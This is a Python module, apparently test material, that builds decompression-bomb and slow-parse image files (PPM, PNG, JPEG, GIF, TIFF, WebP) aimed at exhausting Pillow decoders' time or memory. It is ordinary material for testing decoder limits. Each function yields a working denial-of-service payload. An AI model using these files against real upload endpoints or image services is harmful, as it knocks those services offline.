"""Image files that cost a decoder far more than their size: time, memory, or both."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image


def ppm_of_comments(size: int = 2_000_000) -> bytes:
    """A plain PPM of 64 x 64 pixels behind comments: Pillow copies its whole block for each."""
    return b"P3\n64 64\n255\n" + b"#\n" * (size // 2) + b"1 " * (64 * 64 * 3)


def ppm_of_odd_range(side: int = 3200) -> bytes:
    """A P6 with a maximum of 100: every value is scaled by Python."""
    return b"P6\n%d %d\n100\n" % (side, side) + bytes(side * side * 3)


def ppm_of_digits(side: int = 2300) -> bytes:
    """A plain PPM, which is parsed by Python."""
    return b"P3\n%d %d\n255\n" % (side, side) + b"1 " * (side * side * 3)


def png_of_chunks(size: int = 16_000_000) -> bytes:
    """A small PNG behind empty ancillary chunks of 12 bytes."""
    to = io.BytesIO()
    Image.new("RGB", (8, 8)).save(to, "PNG")
    data = to.getvalue()
    chunk = struct.pack(">I", 0) + b"abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
    return data[:33] + chunk * (size // 12) + data[33:]


def jpeg_of_comments(size: int = 16_000_000) -> bytes:
    """A small JPEG behind empty comments of 4 bytes."""
    to = io.BytesIO()
    Image.new("RGB", (8, 8)).save(to, "JPEG")
    data = to.getvalue()
    return data[:2] + b"\xff\xfe\x00\x02" * (size // 4) + data[2:]


def gif_of_comments(size: int = 15_000_000) -> bytes:
    """A small GIF behind comments of one byte."""
    to = io.BytesIO()
    Image.new("P", (8, 8)).save(to, "GIF")
    data = to.getvalue()
    start = data.index(b"\x2c", 13)
    return data[:start] + b"\x21\xfe\x01a\x00" * (size // 5) + data[start:]


def tiff_of_one_tile(side: int = 46336) -> bytes:
    """A TIFF of 16 x 16 pixels in one deflated tile of `side` x `side`."""
    squeezer, block = zlib.compressobj(9), 1 << 24
    packed = squeezer.compress(bytes(block)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(side * side, block)
    one = zlib.compressobj(9)
    one.compress(bytes(block))
    one.flush(zlib.Z_FULL_FLUSH)
    again = one.compress(bytes(block)) + one.flush(zlib.Z_FULL_FLUSH)  # stands alone, and is the same each time
    end = squeezer.compress(bytes(rest)) + squeezer.flush()
    checksum = struct.pack(">HH", side * side % 65521, 1)
    packed += again * (whole - 1) + end[:-4] + checksum
    tags = [
        (256, 3, 1, 16), (257, 3, 1, 16), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1),
        (322, 4, 1, side), (323, 4, 1, side), (324, 4, 1, 8), (325, 4, 1, len(packed)),
    ]  # fmt: skip
    return _tiff(tags, packed)


def tiff_of_strips(size: int = 31_000_000) -> bytes:
    """A TIFF of 8 x 8 pixels with a list of strip offsets that fills the file."""
    count = size // 4
    offsets = struct.pack("<I", 8) * count
    tags = [
        (256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, count, 8),
        (277, 3, 1, 1), (278, 3, 1, 1), (279, 4, count, 8),
    ]  # fmt: skip
    return _tiff(tags, offsets)


def _tiff(tags: list[tuple[int, int, int, int]], data: bytes) -> bytes:
    """A little-endian TIFF: header, data at 8, then its one directory."""
    at = 8 + len(data) + len(data) % 2
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return (
        struct.pack("<2sHI", b"II", 42, at) + data + bytes(len(data) % 2) + struct.pack("<H", len(tags)) + entries
        + bytes(4)
    )  # fmt: skip


def bomb(kind: str, side: int = 7050, mode: str = "RGBA", **options: Any) -> bytes:
    """Some 50 million pixels of one color, which fill the memory when they are decoded."""
    to = io.BytesIO()
    Image.new(mode, (side, side), (9, 9, 9, 99)[: len(mode)]).save(to, kind, **options)
    return to.getvalue()


COSTLY: dict[str, Callable[[], bytes]] = {
    "PPM comments": ppm_of_comments,
    "PPM maximum of 100": ppm_of_odd_range,
    "PPM digits": ppm_of_digits,
    "PNG chunks": png_of_chunks,
    "JPEG comments": jpeg_of_comments,
    "GIF comments": gif_of_comments,
    "TIFF tile": tiff_of_one_tile,
    "TIFF strips": tiff_of_strips,
    "WebP pixels": lambda: bomb("WEBP"),
    "PNG pixels": lambda: bomb("PNG"),
    "TIFF pixels": lambda: bomb("TIFF", compression="tiff_deflate"),
}
